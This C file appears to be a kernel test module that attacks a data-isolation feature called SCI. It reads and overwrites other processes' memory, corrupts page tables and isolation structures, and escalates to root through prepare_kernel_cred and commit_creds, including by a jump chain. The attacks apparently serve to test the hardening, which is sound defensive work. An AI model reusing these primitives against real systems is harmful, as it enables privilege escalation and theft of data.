// SPDX-License-Identifier: GPL-2.0-only
/*
 * Reads and writes, by its address in the direct map, of memory that is none of
 * the attacker's:
 *
 *   read WHERE                a word of another process's
 *   read-image WHERE          ... by an address in the kernel's image, where it has its
 *                             place if it is memory that the image did not need
 *   write WHERE               ... is overwritten with 42
 *   copy-out WHERE            ... is copied to the caller by copy_to_user()
 *   copy-in WHERE             ... is overwritten with 42 by copy_from_user()
 *   try WHERE                 ... is read where a fault is allowed; 0 if there was one
 *   read-recycled             a page that was the slab allocator's, and was read by this
 *                             system call, is user memory now
 *   jop-user                  escalate by a chain of jumps whose table is in memory of
 *                             the calling process
 *   overwrite WHAT            the task's top-level page table (top), or the table that
 *                             maps the kernel's text (view), the direct map (direct),
 *                             or SCI's windows (windows)
 *                             SCI's variable with the address of the directory of
 *                             isolated tasks (pointer), what it has of this task
 *                             (space), of its cgroup (domain), its map of hidden pages
 *                             (hidden), its table of known indirect calls (calls), the types of
 *                             functions (types); the kernel's own top-level page table
 *                             (kernel-top), those of the struct page of the last page
 *                             there is (struct-page), and of its content (last-page); or
 *                             this task's task_struct, with zeros (task)
 *   doze task|cpu             overwrite this task's task_struct, or what this CPU has of
 *                             the page table that it is on, sleep, then escalate
 *   unisolate                 take this task out of the directory
 *
 * and what is allowed:
 *
 *   window WHERE              a word of another process's, by kmap_local_page() and
 *                             kmap_atomic(), several times at once
 *   window-then-raw WHERE     the same, and in between a read as by "read"
 *   read-returned             a page that was user memory is the kernel's now
 *
 * WHERE is user:PID:ADDRESS, pipe:PID:FD, what is next in the pipe, or stack:PID:0, the
 * fourth argument of the system call that the process sleeps in, on its kernel stack.
 *
 * Parts of SCI that are not there, because it is off, are not overwritten.
 */
#include <linux/file.h>
#include <linux/gfp.h>
#include <linux/highmem.h>
#include <linux/mm.h>
#include <linux/mman.h>
#include <linux/pipe_fs_i.h>
#include <linux/processor.h>
#include <linux/sched.h>
#include <linux/sched/mm.h>
#include <linux/sched/task.h>
#include <linux/sched/task_stack.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>

#include "attack.h"

static int find_in_user(struct secret *s, struct task_struct *task, u64 addr)
{
	struct mm_struct *mm = get_task_mm(task);
	struct page *page;
	long n;

	if (!mm)
		return -ESRCH;
	mmap_read_lock(mm);
	n = get_user_pages_remote(mm, addr & PAGE_MASK, 1, 0, &page, NULL);
	mmap_read_unlock(mm);
	mmput(mm);
	if (n != 1)
		return -EFAULT;
	s->addr = (u64)page_address(page) + offset_in_page(addr);
	put_page(page);
	return 0;
}

static int find_in_pipe(struct secret *s, struct task_struct *task, u64 fd)
{
	struct file *(*get)(struct task_struct *task, unsigned int fd);
	struct pipe_inode_info *pipe;
	struct pipe_buffer *buf;
	struct file *file;

	get = (void *)address_of("fget_task");
	file = get ? get(task, fd) : NULL;
	if (!file)
		return -EBADF;
	pipe = file->private_data;
	buf = &pipe->bufs[pipe->tail & (pipe->ring_size - 1)];
	s->addr = (u64)page_address(buf->page) + buf->offset;
	fput(file);
	return 0;
}

static int find_on_stack(struct secret *s, struct task_struct *task)
{
	void *arg = &task_pt_regs(task)->r10;

	s->addr = (u64)page_address(vmalloc_to_page(arg)) + offset_in_page(arg);
	return 0;
}

static int find_secret(void *data)
{
	struct secret *s = data;
	struct task_struct *task;
	char *where = s->where, *kind = strsep(&where, ":"), *word = strsep(&where, ":");
	struct pid *pid;
	int nr, err;
	u64 in;

	if (!where || kstrtoint(word, 0, &nr) || kstrtoull(where, 0, &in))
		return -EINVAL;
	pid = find_get_pid(nr);
	task = get_pid_task(pid, PIDTYPE_PID);
	put_pid(pid);
	if (!task)
		return -ESRCH;
	if (!strcmp(kind, "user"))
		err = find_in_user(s, task, in);
	else if (!strcmp(kind, "pipe"))
		err = find_in_pipe(s, task, in);
	else if (!strcmp(kind, "stack"))
		err = find_on_stack(s, task);
	else
		err = -EINVAL;
	put_task_struct(task);
	return err;
}

int locate_secret(struct secret *s, char *where)
{
	s->where = where;
	return prepare(find_secret, s);
}

static int locate(struct secret *s, int argc, char **argv)
{
	return argc == 2 ? locate_secret(s, argv[1]) : -EINVAL;
}

static int attack_read(int argc, char **argv, u64 *result)
{
	struct secret s;
	int err = locate(&s, argc, argv);

	if (!err)
		*result = READ_ONCE(*(u64 *)s.addr);
	return err;
}

static int attack_read_image(int argc, char **argv, u64 *result)
{
	struct secret s;
	int err = locate(&s, argc, argv);
	u64 addr;

	if (err)
		return err;
	addr = __START_KERNEL_map + __pa(s.addr) - phys_base;
	*result = READ_ONCE(*(u64 *)addr);
	return 0;
}

static int attack_write(int argc, char **argv, u64 *result)
{
	struct secret s;
	int err = locate(&s, argc, argv);

	if (!err)
		WRITE_ONCE(*(u64 *)s.addr, 42);
	return err;
}

unsigned long own_page(void)
{
	return vm_mmap(NULL, 0, PAGE_SIZE, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS, 0);
}

static int attack_copy_out(int argc, char **argv, u64 *result)
{
	unsigned long user = own_page();
	struct secret s;
	int err;

	if (IS_ERR_VALUE(user))
		return user;
	err = locate(&s, argc, argv);
	if (err)
		return err;
	if (copy_to_user((void __user *)user, (void *)s.addr, sizeof(u64)))
		return -EFAULT;
	return get_user(*result, (u64 __user *)user);
}

static int attack_copy_in(int argc, char **argv, u64 *result)
{
	unsigned long user = own_page();
	struct secret s;
	int err;

	if (IS_ERR_VALUE(user))
		return user;
	if (put_user(42ULL, (u64 __user *)user))
		return -EFAULT;
	err = locate(&s, argc, argv);
	if (err)
		return err;
	return copy_from_user((void *)s.addr, (void __user *)user, sizeof(u64)) ? -EFAULT : 0;
}

static int attack_try(int argc, char **argv, u64 *result)
{
	struct secret s;
	int err = locate(&s, argc, argv);

	if (!err && copy_from_kernel_nofault(result, (void *)s.addr, sizeof(*result)))
		*result = 0;
	return err;
}

/* ------------------------------------------------------------------ */
/* windows */

/* All maps of the page show the same; with @raw, so does the direct map. */
static int look_through_windows(int argc, char **argv, u64 *result, bool raw)
{
	struct page *page;
	struct secret s;
	u64 seen[5], *map[4];
	unsigned int i;
	int err;

	err = locate(&s, argc, argv);
	if (err)
		return err;
	page = virt_to_page(s.addr);
	for (i = 0; i < 3; i++)
		map[i] = kmap_local_page(page) + offset_in_page(s.addr);
	map[3] = kmap_local_page(page) + offset_in_page(s.addr);
	seen[3] = READ_ONCE(*map[3]);
	kunmap_local(map[3]);

	seen[0] = READ_ONCE(*map[0]);
	seen[4] = raw ? READ_ONCE(*(u64 *)s.addr) : seen[0];
	seen[1] = READ_ONCE(*map[1]);
	seen[2] = READ_ONCE(*map[2]);
	for (i = 3; i--;)
		kunmap_local(map[i]);

	map[0] = kmap_local_page(page) + offset_in_page(s.addr);
	*result = READ_ONCE(*map[0]);
	kunmap_local(map[0]);
	for (i = 0; i < ARRAY_SIZE(seen); i++)
		if (seen[i] != *result)
			return -EIO;
	return 0;
}

static int attack_window(int argc, char **argv, u64 *result)
{
	return look_through_windows(argc, argv, result, false);
}

static int attack_window_then_raw(int argc, char **argv, u64 *result)
{
	return look_through_windows(argc, argv, result, true);
}

/* ------------------------------------------------------------------ */
/* pages that change hands */

#define MAX_TRIES	1024

struct recycling {
	struct kmem_cache *cache;
	u64 *word;
	unsigned int order;
	struct page *page;
};

/* Allocate until it is the page of @r->word. */
static int get_again(struct recycling *r, gfp_t gfp)
{
	struct page *page, *next, *others = NULL;
	unsigned int i;

	for (i = 0; i < MAX_TRIES && !r->page; i++) {
		page = alloc_pages(gfp, r->order);
		if (!page)
			break;
		if (page == virt_to_page(r->word)) {
			r->page = page;
			continue;
		}
		page->private = (unsigned long)others;
		others = page;
	}
	for (page = others; page; page = next) {
		next = (struct page *)page->private;
		page->private = 0;
		__free_pages(page, r->order);
	}
	return r->page ? 0 : -EAGAIN;
}

static int get_slab(void *data)
{
	struct recycling *r = data;

	r->cache = kmem_cache_create("sci_attack", PAGE_SIZE, PAGE_SIZE, 0, NULL);
	if (!r->cache)
		return -ENOMEM;
	r->word = kmem_cache_alloc(r->cache, GFP_KERNEL);
	if (!r->word) {
		kmem_cache_destroy(r->cache);
		return -ENOMEM;
	}
	*r->word = 1;
	return 0;
}

static int slab_to_user(void *data)
{
	struct recycling *r = data;
	u64 *object = r->word;
	int err;

	/* the first of the slab's pages will be looked at */
	r->order = folio_order(virt_to_folio(object));
	r->word = page_address(compound_head(virt_to_page(object)));
	migrate_disable();
	kmem_cache_free(r->cache, object);
	kmem_cache_destroy(r->cache);
	err = get_again(r, GFP_HIGHUSER);
	migrate_enable();
	if (!err)
		*r->word = 42;
	return err;
}

static int attack_read_recycled(int argc, char **argv, u64 *result)
{
	struct recycling r = { };
	int err;

	err = prepare(get_slab, &r);
	if (err)
		return err;
	/* the TLB knows it now */
	(void)READ_ONCE(*(u64 *)page_address(compound_head(virt_to_page(r.word))));
	err = prepare(slab_to_user, &r);
	if (err)
		return err;
	*result = READ_ONCE(*r.word);
	__free_pages(r.page, r.order);
	return 0;
}

static int user_to_kernel(void *data)
{
	struct recycling *r = data;
	struct page *page;
	int err;

	migrate_disable();
	page = alloc_page(GFP_HIGHUSER);
	if (page) {
		r->word = page_address(page);
		*r->word = 1;
		__free_page(page);
	}
	err = page ? get_again(r, GFP_KERNEL) : -ENOMEM;
	migrate_enable();
	if (!err)
		*r->word = 42;
	return err;
}

static int attack_read_returned(int argc, char **argv, u64 *result)
{
	struct recycling r = { };
	int err;

	err = prepare(user_to_kernel, &r);
	if (err)
		return err;
	*result = READ_ONCE(*r.word);
	__free_page(r.page);
	return 0;
}

/* ------------------------------------------------------------------ */
/* own user memory, as data */

static int attack_jop_user(int argc, char **argv, u64 *result)
{
	struct jump table[3] = {
		{ known.prepare_kernel_cred, (u64)&init_task },
		{ known.commit_creds, 0 },
	};
	unsigned long user = own_page();
	struct secret s;
	char where[48];
	int err;

	if (IS_ERR_VALUE(user))
		return user;
	if (copy_to_user((void __user *)user, table, sizeof(table)))
		return -EFAULT;
	snprintf(where, sizeof(where), "user:%d:0x%lx", current->pid, user);
	s.where = where;
	err = prepare(find_secret, &s);
	if (!err)
		*result = sci_attack_dispatch((const struct jump *)s.addr);
	return err;
}

/* ------------------------------------------------------------------ */
/* SCI itself */

/* Of include/linux/sci_cgroup.h, which kernels without data isolation have not. */
#ifndef SCI_WINDOW_BASE
#define SCI_WINDOW_BASE		0xffffff8000000000UL
#endif
#define TASK_SHIFT		11
#define TASKS_PER_PAGE		(PAGE_SIZE / sizeof(void *))

/* The part that is attacked, of which task, on which page table; address 0: not there. */
struct part {
	const char *what;
	u64 task, cr3;
	u64 addr;
};

u64 find_entry(u64 cr3, u64 addr, int lowest)
{
	u64 *table = __va(cr3), *entry;
	int shift;

	for (shift = PGDIR_SHIFT; ; shift -= 9) {
		entry = &table[(addr >> shift) % PTRS_PER_PTE];
		if (shift == lowest || !(*entry & _PAGE_PRESENT) ||
		    (shift != PGDIR_SHIFT && *entry & _PAGE_PSE))
			return (u64)entry;
		table = __va(*entry & PTE_PFN_MASK);
	}
}

/* The entry of a task in the directory. */
static u64 find_space(u64 task)
{
	u64 i = (task - PAGE_OFFSET) >> TASK_SHIFT, *pointer = (u64 *)address_of("sci_spaces");
	u64 **directory;

	if (!pointer || !*pointer)
		return 0;
	directory = (u64 **)*pointer;
	return (u64)&directory[i / TASKS_PER_PAGE][i % TASKS_PER_PAGE];
}

static int find_part(void *data)
{
	struct part *p = data;
	u64 *word;

	p->addr = 0;
	if (!strcmp(p->what, "top")) {
		p->addr = (u64)__va(p->cr3);
	} else if (!strcmp(p->what, "view")) {
		p->addr = find_entry(p->cr3, known.commit_creds, PAGE_SHIFT);
	} else if (!strcmp(p->what, "direct")) {
		p->addr = find_entry(p->cr3, p->task, PAGE_SHIFT);
	} else if (!strcmp(p->what, "windows")) {
		p->addr = find_entry(p->cr3, SCI_WINDOW_BASE, PAGE_SHIFT);
	} else if (!strcmp(p->what, "pointer")) {
		p->addr = address_of("sci_spaces");
	} else if (!strcmp(p->what, "directory")) {
		p->addr = find_space(p->task);
	} else if (!strcmp(p->what, "space")) {
		word = (u64 *)find_space(p->task);
		p->addr = word ? *word : 0;
	} else if (!strcmp(p->what, "domain")) {
		word = (u64 *)find_space(p->task);
		if (word && *word)
			p->addr = *(u64 *)*word;
	} else if (!strcmp(p->what, "hidden")) {
		word = (u64 *)address_of("sci_kinds");
		if (word && *word)
			p->addr = *word + round_down(PHYS_PFN(__pa(p->task)), 8);
	} else if (!strcmp(p->what, "calls")) {
		word = (u64 *)address_of("sci_known_icalls");
		p->addr = word ? *word : 0;
	} else if (!strcmp(p->what, "kernel-top")) {
		p->addr = address_of("init_top_pgt");
	} else if (!strcmp(p->what, "struct-page") || !strcmp(p->what, "last-page")) {
		word = (u64 *)address_of("max_pfn");
		p->addr = find_entry(__pa_symbol(address_of("init_top_pgt")), *p->what == 's' ?
				     (u64)pfn_to_page(*word - 1) : (u64)__va(PFN_PHYS(*word - 1)),
				     PAGE_SHIFT);
	} else if (!strcmp(p->what, "types")) {
		word = (u64 *)address_of("sci_image_types");
		p->addr = word ? *word : 0;
	} else {
		return -EINVAL;
	}
	return 0;
}

static int locate_part(struct part *p, const char *what)
{
	p->what = what;
	p->task = (u64)current;
	p->cr3 = read_cr3_pa();
	return prepare(find_part, p);
}

static void forget(void)
{
#ifdef CONFIG_CGROUP_SCI
	memset(&current->sci, 0, sizeof(current->sci));
#endif
}

static int attack_overwrite(int argc, char **argv, u64 *result)
{
	struct part p;
	int err;

	if (argc != 2)
		return -EINVAL;
	if (!strcmp(argv[1], "task")) {
		forget();
		return 0;
	}
	err = locate_part(&p, argv[1]);
	/* Were it let through, it would be the word that was there. */
	if (!err && p.addr)
		asm volatile("orq $0, %0" : "+m" (*(u64 *)p.addr));
	return err;
}

/* A task that comes back from the scheduler is put on the page table that this says. */
static int attack_doze(int argc, char **argv, u64 *result)
{
	struct target t;
	u64 cred;
	int err;

	if (argc != 2)
		return -EINVAL;
	err = resolve(&t, "sci_on_view", NULL, NULL);
	/* The way there is in the view then: no fault sets anything right again. */
	schedule_timeout_uninterruptible(1);
	if (!strcmp(argv[1], "task"))
		forget();
	else if (!err)
		WRITE_ONCE(*(bool *)(t.addr + this_cpu_read(this_cpu_off)), false);
	schedule_timeout_uninterruptible(1);
	cred = corrupted_call(known.prepare_kernel_cred_body, (u64)&init_task);
	if (!cred)
		return -ENOMEM;
	*result = corrupted_call(known.commit_creds_body, cred);
	return 0;
}

static int attack_unisolate(int argc, char **argv, u64 *result)
{
	struct part p;
	int err = locate_part(&p, "directory");

	if (!err && p.addr)
		WRITE_ONCE(*(u64 *)p.addr, 0);
	return err;
}

const struct attack secret_attacks[] = {
	{ "read",		attack_read },
	{ "read-image",		attack_read_image },
	{ "write",		attack_write },
	{ "copy-out",		attack_copy_out },
	{ "copy-in",		attack_copy_in },
	{ "try",		attack_try },
	{ "window",		attack_window },
	{ "window-then-raw",	attack_window_then_raw },
	{ "read-recycled",	attack_read_recycled },
	{ "read-returned",	attack_read_returned },
	{ "jop-user",		attack_jop_user },
	{ "overwrite",		attack_overwrite },
	{ "doze",		attack_doze },
	{ "unisolate",		attack_unisolate },
	{ }
};
